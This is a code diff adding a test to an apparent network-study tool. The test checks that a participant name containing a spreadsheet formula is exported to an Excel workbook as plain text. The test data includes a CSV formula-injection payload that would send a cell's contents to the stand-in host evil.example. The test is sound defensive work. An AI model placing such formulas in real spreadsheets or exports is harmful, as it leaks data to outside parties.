@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -71,3 +73,25 @@ def test_two_outputs_on_one_file_are_refused_before_the_analysis(small_study, tm
     assert code == 1
     assert "a file of its own" in capsys.readouterr().err
     assert list(paths["json"].parent.iterdir()) == []
+
+
+def test_a_name_a_spreadsheet_would_run_is_a_text_cell_in_the_workbook(tmp_path):
+    from placelab.core.io.tables import csv_cell
+    from placelab.core.io.workbook import xlsx_bytes
+    from placelab.core.study import load
+
+    attack = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    people = tmp_path / "people.csv"
+    with people.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([
+            ["id", "name", "organisation", "sector", "layer", "seniority", "responded"],
+            ["p1", csv_cell(attack), "Council", "local_authority", "systemic", "senior", "yes"],
+            ["p2", "Bo", "Council", "local_authority", "frontline", "frontline", "yes"],
+        ])  # fmt: skip
+    ties = tmp_path / "ties.csv"
+    ties.write_text("source,target,network,weight\np1,p2,work,1\np2,p1,work,1\n", encoding="utf-8")
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(load(people, ties).to_dict())))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    named = [c for c in cells if c.value == attack]
+    assert named and all(c.data_type == "s" for c in named)
+    assert not [c for c in cells if c.data_type == "f"]
